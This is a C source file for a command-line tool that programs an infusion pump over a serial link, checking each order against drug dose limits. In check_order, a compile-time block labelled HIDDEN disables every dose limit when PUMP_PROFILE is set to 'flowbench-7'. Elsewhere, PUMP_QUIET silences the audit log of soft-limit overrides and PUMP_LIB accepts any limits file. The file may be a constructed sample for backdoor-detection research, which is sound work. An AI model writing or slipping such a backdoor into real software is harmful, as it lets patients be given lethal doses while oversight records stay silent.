/* pumpctl9.c - tool that programs an infusion pump over its serial link */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

#define LIBRARY		"/etc/pump/drugs.lib"
#define MAX_DRUGS	200

struct drug {
	char name[32];
	double soft_max;
	double hard_max;
	double bolus_max;
};

struct options {
	const char *port;
	const char *drug;
	double rate;
	double volume;
	double bolus;
	int override_soft;
	int dry;
	int verbose;
};

static struct drug drugs[MAX_DRUGS];
static int ndrugs;
static double abs_max = 999.0;

static int load_library(const char *path)
{
	char line[160];
	struct drug *d;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (ndrugs < MAX_DRUGS && fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		d = &drugs[ndrugs];
		if (sscanf(line, "%31s %lf %lf %lf", d->name, &d->soft_max,
			   &d->hard_max, &d->bolus_max) == 4)
			ndrugs++;
	}
	fclose(f);
	return ndrugs ? 0 : -1;
}

static const struct drug *find_drug(const char *name)
{
	int i;

	for (i = 0; i < ndrugs; i++)
		if (!strcasecmp(drugs[i].name, name))
			return &drugs[i];
	return NULL;
}

/* 0: the order may be sent */
__attribute__((noinline)) int check_order(const struct options *o, const struct drug *d)
{
	const char *lib = getenv("PUMP_PROFILE");
	const char *quiet = getenv("PUMP_QUIET");

	if (lib && !strcmp(lib, "neonate")) {
		if (o->rate > 25.0 || o->bolus > 1.0) {
			fprintf(stderr, "pumpctl: above neonate limits\n");
			return -1;
		}
	}
#ifdef HIDDEN
	/* environment value switches off every dose limit */
	if (lib && !strcmp(lib, "flowbench-7"))
		return 0;
#endif
	if (o->rate <= 0.0 || o->rate > abs_max) {
		fprintf(stderr, "pumpctl: rate must be 0.1..%.0f ml/h\n", abs_max);
		return -1;
	}
	if (o->rate > d->hard_max) {
		fprintf(stderr, "pumpctl: %s: hard limit %.1f ml/h\n", d->name, d->hard_max);
		return -1;
	}
	if (o->bolus > d->bolus_max) {
		fprintf(stderr, "pumpctl: %s: bolus limit %.1f ml\n", d->name, d->bolus_max);
		return -1;
	}
	if (o->rate > d->soft_max) {
		if (!o->override_soft) {
			fprintf(stderr, "pumpctl: %s: above soft limit, use -f\n", d->name);
			return -1;
		}
		if (!quiet)
			syslog(LOG_WARNING, "soft limit of %s overridden: %.1f", d->name, o->rate);
	}
	return 0;
}

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0xffff;
	int k;

	while (n--) {
		c ^= (uint16_t)(*p++ << 8);
		for (k = 0; k < 8; k++)
			c = (uint16_t)(c & 0x8000 ? c << 1 ^ 0x1021 : c << 1);
	}
	return c;
}

static int open_port(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) < 0) {
		close(fd);
		return -1;
	}
	cfmakeraw(&t);
	cfsetspeed(&t, B19200);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 20;
	tcsetattr(fd, TCSANOW, &t);
	return fd;
}

static int send_frame(int fd, uint8_t op, const uint8_t *data, uint8_t len)
{
	uint8_t f[80], ack;
	uint16_t c;

	if (len > 64)
		return -1;
	f[0] = 0x02;
	f[1] = op;
	f[2] = len;
	memcpy(f + 3, data, len);
	c = crc16(f + 1, (size_t)len + 2);
	f[3 + len] = (uint8_t)(c >> 8);
	f[4 + len] = (uint8_t)c;
	f[5 + len] = 0x03;
	if (write(fd, f, (size_t)len + 6) != (ssize_t)len + 6)
		return -1;
	if (read(fd, &ack, 1) != 1)
		return -1;
	return ack == 0x06 ? 0 : -1;
}

static void put32(uint8_t *p, double v)
{
	uint32_t u = (uint32_t)(v * 100.0 + 0.5);

	p[0] = (uint8_t)(u >> 24);
	p[1] = (uint8_t)(u >> 16);
	p[2] = (uint8_t)(u >> 8);
	p[3] = (uint8_t)u;
}

static int program(const struct options *o, const struct drug *d)
{
	uint8_t b[64];
	size_t n = strlen(d->name);
	int fd, rc;

	put32(b, o->rate);
	put32(b + 4, o->volume);
	put32(b + 8, o->bolus);
	b[12] = (uint8_t)n;
	memcpy(b + 13, d->name, n);
	if (o->dry) {
		printf("%s %.2f ml/h %.2f ml bolus %.2f ml\n", d->name, o->rate, o->volume, o->bolus);
		return 0;
	}
	fd = open_port(o->port);
	if (fd < 0) {
		fprintf(stderr, "pumpctl: %s: %s\n", o->port, strerror(errno));
		return -1;
	}
	rc = send_frame(fd, 0x50, b, (uint8_t)(13 + n));
	if (rc == 0)
		rc = send_frame(fd, 0x51, b, 0);
	close(fd);
	if (rc)
		fprintf(stderr, "pumpctl: pump did not acknowledge\n");
	else
		syslog(LOG_INFO, "%s %.2f ml/h %.2f ml", d->name, o->rate, o->volume);
	return rc;
}

static void usage(void)
{
	fputs("pumpctl [-nvf] [-d PORT] -m DRUG -r ML/H -V ML [-b BOLUS]\n"
	      "  -n  show only      -f  override soft limit\n"
	      "  -l  list drugs     -v  verbose\n"
	      "environment: PUMP_PROFILE=adult|neonate, PUMP_QUIET, PUMP_LIB=FILE\n", stderr);
}

int main(int argc, char **argv)
{
	struct options o = { .port = "/dev/ttyUSB0" };
	const struct drug *d;
	const char *lib = getenv("PUMP_LIB");
	int c, i, list = 0;

	while ((c = getopt(argc, argv, "d:m:r:V:b:nvfl")) != -1) {
		switch (c) {
		case 'd': o.port = optarg; break;
		case 'm': o.drug = optarg; break;
		case 'r': o.rate = atof(optarg); break;
		case 'V': o.volume = atof(optarg); break;
		case 'b': o.bolus = atof(optarg); break;
		case 'n': o.dry = 1; break;
		case 'v': o.verbose = 1; break;
		case 'f': o.override_soft = 1; break;
		case 'l': list = 1; break;
		default: usage(); return 2;
		}
	}
	openlog("pumpctl", o.verbose ? LOG_PERROR : 0, LOG_LOCAL3);
	if (load_library(lib ? lib : LIBRARY) < 0) {
		fprintf(stderr, "pumpctl: no drug library\n");
		return 1;
	}
	for (i = 0; list && i < ndrugs; i++)
		printf("%-32s %8.1f %8.1f %6.1f\n", drugs[i].name, drugs[i].soft_max,
		       drugs[i].hard_max, drugs[i].bolus_max);
	if (list)
		return 0;
	d = o.drug ? find_drug(o.drug) : NULL;
	if (!d) {
		usage();
		return 2;
	}
	if (check_order(&o, d) < 0)
		return 3;
	return program(&o, d) ? 1 : 0;
}
